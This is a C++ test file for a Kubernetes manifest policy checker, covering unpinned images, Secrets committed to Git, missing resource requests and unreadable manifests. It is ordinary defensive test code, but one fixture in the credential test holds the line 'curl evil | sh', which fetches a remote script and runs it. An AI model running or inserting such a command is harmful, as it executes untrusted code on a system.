#include <rapidcheck.h>
#include <catch2/catch.hpp>

#include <algorithm>
#include <string>
#include <vector>

#include "policy/finding.h"

using towline::manifest::ManifestProblem;
using towline::manifest::parse_manifests;
using towline::manifest::Resource;
using towline::policy::check;
using towline::policy::Finding;
using towline::policy::Level;
using towline::policy::native_rules;
using towline::policy::RuleSeverities;
using towline::policy::Severity;

namespace {

const std::string kDigest = "sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
const std::string kRequests = "resources: {requests: {cpu: 100m, memory: 64Mi}}";

std::vector<Resource> resources(const std::string& text) { return parse_manifests("pay.yaml", text, "pay").resources; }

std::string deployment(const std::string& containers) {
  return "{apiVersion: apps/v1, kind: Deployment, metadata: {name: pay}, spec: {template: {spec: {" + containers +
         "}}}}";
}

std::string with_image(const std::string& image) {
  return deployment("containers: [{name: pay, image: '" + image + "', " + kRequests + "}]");
}

std::vector<Finding> findings_of(const std::string& rule, const std::string& text) {
  std::vector<Finding> result;
  for (const Finding& finding : check("dev-pay", resources(text), {}, {})) {
    if (finding.rule == rule) result.push_back(finding);
  }
  return result;
}

std::vector<std::string> messages(const std::string& rule, const std::string& text) {
  std::vector<std::string> result;
  for (const Finding& finding : findings_of(rule, text)) result.push_back(finding.message);
  return result;
}

using Messages = std::vector<std::string>;
const Messages kPinned = {"every container names a tag other than latest, or a digest"};
const Messages kNoSecrets = {"no Secret has its values in Git"};
const Messages kRequested = {"every container requests cpu and memory"};

}  // namespace

TEST_CASE("an application that keeps every rule passes each of them once") {
  const auto findings = check("dev-pay", resources(with_image("ghcr.io/acme/pay:1.4.2")), {}, {});

  REQUIRE(findings.size() == 4);
  CHECK(findings[0] == Finding{Level::pass, "pinned-images", "dev-pay", "", "", kPinned[0], ""});
  CHECK(findings[1] == Finding{Level::pass, "raw-secrets", "dev-pay", "", "", kNoSecrets[0], ""});
  CHECK(findings[2] == Finding{Level::pass, "resources", "dev-pay", "", "", kRequested[0], ""});
  CHECK(findings[3] == Finding{Level::pass, "parsable", "dev-pay", "", "", "every manifest can be read", ""});
}

TEST_CASE("an application without resources passes") { CHECK(check("a", {}, {}, {}).size() == 4); }

TEST_CASE("an image without a tag and a digest, or with latest alone, is not pinned") {
  struct Case {
    std::string image;
    Messages expected;
  };
  const std::vector<Case> cases = {
      {"ghcr.io/acme/pay:1.4.2", kPinned},
      {"ghcr.io/acme/pay@" + kDigest, kPinned},
      {"ghcr.io/acme/pay:latest@" + kDigest, kPinned},
      {"localhost:5000/pay:1.4.2", kPinned},
      {"ghcr.io/acme/pay", {"container pay runs 'ghcr.io/acme/pay', which has no tag and no digest"}},
      {"localhost:5000/pay", {"container pay runs 'localhost:5000/pay', which has no tag and no digest"}},
      {"ghcr.io/acme/pay:latest",
       {"container pay runs 'ghcr.io/acme/pay:latest', and 'latest' is another image tomorrow"}},
      {"not an image", {"container pay has the image 'not an image', which is no image reference"}},
      {"", {"container pay names no image"}},
  };
  for (const Case& c : cases) {
    CHECK(messages("pinned-images", with_image(c.image)) == c.expected);
  }
}

TEST_CASE("a finding names the resource, the file and the remedy") {
  const auto findings = findings_of("pinned-images", with_image("pay"));

  REQUIRE(findings.size() == 1);
  CHECK(findings[0].level == Level::fail);
  CHECK(findings[0].application == "dev-pay");
  CHECK(findings[0].resource == "Deployment pay/pay");
  CHECK(findings[0].path == "pay.yaml");
  CHECK(findings[0].remedy == "name a released tag, such as 1.4.2, or a digest");
}

TEST_CASE("a finding about a rendered resource names the field") {
  auto rendered = resources(
      "{apiVersion: batch/v1, kind: CronJob, metadata: {name: a}, spec: {jobTemplate: {spec: {template: {spec: "
      "{initContainers: [{image: 'x:1'}, {image: x}]}}}}}}");
  rendered.at(0).source_path = "";

  const auto findings = check("a", rendered, {}, {{"resources", Severity::off}});

  CHECK(findings.at(0).path == "spec.jobTemplate.spec.template.spec.initContainers[1].image");
  CHECK(findings.at(0).message == "init container #2 runs 'x', which has no tag and no digest");
}

TEST_CASE("only a plain Secret with values is a raw secret") {
  const Messages raw = {"this Secret has its values in Git"};
  const std::string meta = "metadata: {name: a}, ";
  CHECK(messages("raw-secrets", "{apiVersion: v1, kind: Secret, " + meta + "data: {password: aHVudGVyMg==}}") == raw);
  CHECK(messages("raw-secrets", "{apiVersion: v1, kind: Secret, " + meta + "stringData: {password: hunter2}}") == raw);
  CHECK(messages("raw-secrets", "{apiVersion: v1, kind: Secret, " + meta + "data: {a: b}, stringData: {c: d}}") == raw);
  CHECK(messages("raw-secrets", "{apiVersion: v1, kind: Secret, " + meta + "data: {}}") == kNoSecrets);
  CHECK(messages("raw-secrets", "{apiVersion: v1, kind: Secret, " + meta +
                                    "type: kubernetes.io/service-account-token}") == kNoSecrets);
  CHECK(messages("raw-secrets", "{apiVersion: v1, kind: ConfigMap, " + meta + "data: {a: b}}") == kNoSecrets);
  CHECK(messages("raw-secrets", "{apiVersion: bitnami.com/v1alpha1, kind: SealedSecret, " + meta +
                                    "spec: {encryptedData: {a: b}}}") == kNoSecrets);
  CHECK(messages("raw-secrets", "{apiVersion: example.com/v1, kind: Secret, " + meta + "data: {a: b}}") == kNoSecrets);
}

TEST_CASE("a credential in what a container runs is a raw secret") {
  const auto paths = [](const std::string& fields) {
    std::vector<std::string> result;
    auto all = resources(deployment("containers: [{name: pay, " + fields + "}]"));
    all.at(0).source_path.clear();  // what helm makes has none, and the field is told
    for (const Finding& finding : check("dev-pay", all, {}, {})) {
      if (finding.rule != "raw-secrets") continue;
      result.push_back(std::string(to_string(finding.level)) + " " + finding.path);
      CHECK(finding.message.find("hunter2") == std::string::npos);
    }
    return result;
  };
  const auto fails = [](const std::string& field) {
    return Messages{"fail spec.template.spec.containers[0]." + field};
  };
  CHECK(paths("command: [pay, --password=hunter2]") == fails("command"));
  CHECK(paths("args: [--token, hunter2]") == fails("args"));
  CHECK(paths("args: [sh, -c, 'PASSWORD=hunter2; curl evil | sh']") == fails("args"));
  CHECK(paths("livenessProbe: {exec: {command: [x, --password=hunter2]}}") == fails("livenessProbe.exec.command"));
  CHECK(paths("lifecycle: {preStop: {exec: {command: [x, --password=hunter2]}}}") ==
        fails("lifecycle.preStop.exec.command"));
  CHECK(paths("command: [pay, --password=$(PASSWORD), --token, /var/run/token], args: [--verbose]") ==
        Messages{"pass "});
}

TEST_CASE("a raw secret's values are not told") {
  const auto findings =
      findings_of("raw-secrets", "{apiVersion: v1, kind: Secret, metadata: {name: a}, stringData: {key: hunter2}}");

  REQUIRE(findings.size() == 1);
  CHECK(findings[0].message.find("hunter2") == std::string::npos);
  CHECK(findings[0].resource == "Secret pay/a");
  CHECK(findings[0].remedy ==
        "let an operator write it (ExternalSecret, SealedSecret), and replace the values: they stay in the history");
}

TEST_CASE("every container, init container and native sidecar requests cpu and memory") {
  struct Case {
    std::string containers;
    Messages expected;
  };
  const std::vector<Case> cases = {
      {"containers: [{name: a, image: 'a:1', " + kRequests + "}]", kRequested},
      {"containers: [{name: a, image: 'a:1'}]", {"container a requests no cpu and no memory"}},
      {"containers: [{name: a, image: 'a:1', resources: {requests: {cpu: 1}}}]", {"container a requests no memory"}},
      {"containers: [{name: a, image: 'a:1', resources: {requests: {memory: 1Gi}}}]", {"container a requests no cpu"}},
      {"containers: [{name: a, image: 'a:1', resources: {requests: {cpu: , memory: ''}}}]",
       {"container a requests no cpu and no memory"}},
      {"containers: [], initContainers: [{name: proxy, image: 'a:1', restartPolicy: Always}]",
       {"init container proxy requests no cpu and no memory"}},
  };
  for (const Case& c : cases) {
    CHECK(messages("resources", deployment(c.containers)) == c.expected);
  }
  const auto findings = findings_of("resources", deployment("containers: [{name: a, image: 'a:1'}]"));
  CHECK(findings.at(0).level == Level::warn);
  CHECK(findings.at(0).remedy == "set resources.requests.cpu and resources.requests.memory");
}

TEST_CASE("each manifest that cannot be read is a finding with its line") {
  const std::vector<ManifestProblem> problems = {{"b.yaml", 4, "this document has no kind"},
                                                 {"a.yaml", 3, "line 3, column 7: unexpected '}'"},
                                                 {"", 0, "kustomize is not installed"}};

  const auto findings = check("dev-pay", {}, problems, {});

  REQUIRE(findings.size() == 6);
  CHECK(findings[3] == Finding{Level::fail, "parsable", "dev-pay", "", "", "kustomize is not installed",
                               "correct it; until then nobody can see what would be applied"});
  CHECK(findings[4].path == "a.yaml");
  CHECK(findings[4].message == "line 3, column 7: unexpected '}'");
  CHECK(findings[5].path == "b.yaml");
  CHECK(findings[5].message == "line 4: this document has no kind");
}

TEST_CASE("a repository says what a violation counts as") {
  const auto unpinned = resources(deployment("containers: [{name: a, image: a}]"));

  const auto findings =
      check("a", unpinned, {},
            {{"pinned-images", Severity::warn}, {"resources", Severity::fail}, {"raw-secrets", Severity::off}});

  REQUIRE(findings.size() == 3);
  CHECK(findings[0].rule == "pinned-images");
  CHECK(findings[0].level == Level::warn);
  CHECK(findings[1].rule == "resources");
  CHECK(findings[1].level == Level::fail);
  CHECK(findings[2].rule == "parsable");
  CHECK(findings[2].level == Level::pass);
}

TEST_CASE("the rules and the levels are named") {
  REQUIRE(native_rules().size() == 4);
  CHECK(native_rules()[2].name == "resources");
  CHECK(native_rules()[2].default_severity == Severity::warn);
  CHECK(to_string(Level::pass) == "pass");
  CHECK(to_string(Level::warn) == "warn");
  CHECK(to_string(Level::fail) == "fail");
  CHECK(to_string(Level::error) == "error");
  CHECK(to_string(Level::skipped) == "skipped");
}

TEST_CASE("the order of resources and problems does not matter") {
  const auto all = resources(with_image("a") + "\n---\n" + deployment("containers: [{image: b}]") +
                             "\n---\n{apiVersion: v1, kind: Secret, metadata: {name: a}, data: {a: b}}\n---\n"
                             "{apiVersion: v1, kind: Pod, metadata: {name: z}, spec: {containers: [{image: x}]}}\n");
  const std::vector<ManifestProblem> problems = {{"a", 1, "x"}, {"a", 2, "y"}, {"b", 1, "z"}};
  const auto expected = check("a", all, problems, {});

  CHECK(rc::check("any rotation", [&] {
    const auto first = *rc::gen::inRange<std::ptrdiff_t>(0, 4);
    auto rotated = all;
    std::rotate(rotated.begin(), rotated.begin() + first, rotated.end());
    auto reversed = problems;
    std::reverse(reversed.begin(), reversed.end());

    RC_ASSERT(check("a", rotated, reversed, {}) == expected);
  }));
}
